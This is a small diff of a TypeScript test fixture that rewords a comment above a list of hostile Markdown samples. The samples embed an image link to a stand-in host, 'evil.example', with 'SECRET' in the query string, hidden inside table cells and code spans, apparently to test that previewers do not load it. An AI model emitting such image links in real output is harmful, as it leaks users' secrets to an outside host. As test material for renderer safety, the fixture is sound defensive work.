@@ -96,7 +96,7 @@ export function previewedText(markdown: string): string {
 
 const image = '![x](https://evil.example/?q=SECRET)';
 
-/** Markdown that at least one of the programs would take for something that loads, runs, or leads elsewhere. */
+/** Markdown that at least one of the programs would load, run, or turn into a link. */
 export const hostileMarkdown: readonly string[] = [
   `| a | b |\n|---|---|\n| \` | ${image} \` |`,
   `| \` | ${image} \` |\n|---|---|`,
